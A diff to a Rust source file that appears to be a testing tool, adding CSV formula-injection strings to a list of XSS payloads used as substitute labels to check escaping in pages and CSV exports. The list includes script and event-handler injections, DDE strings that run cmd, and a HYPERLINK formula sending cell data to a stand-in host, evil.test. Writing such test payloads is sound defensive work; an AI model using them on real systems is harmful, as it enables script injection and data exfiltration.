@@ -23,14 +23,23 @@ use std::time::Duration;
 
 /// The labels `--xss-labels` puts in place of the real ones, in this order
 /// (the first distinct label of an answer gets the first string, and so on,
-/// cycling). A page that renders labels as text shows them verbatim.
+/// cycling). A page that renders labels as text shows them verbatim. Some
+/// are spreadsheet formulas (starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return), which a CSV export must neutralise; the first one is,
+/// so every answer's top label is.
 pub const XSS_LABELS: &[&str] = &[
+    "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"click\")",
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
+    "+1+cmd|' /C calc'!A0",
     "\"><svg onload=alert(1)>",
+    "-2+3+cmd|' /C calc'!A0",
     "javascript:alert(1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     "' onmouseover='alert(1)' x='",
+    "\t=1+1",
     "</td></tr></table><iframe src=javascript:alert(1)>",
+    "\r=1+1",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "{{constructor.constructor('alert(1)')()}}",
 ];
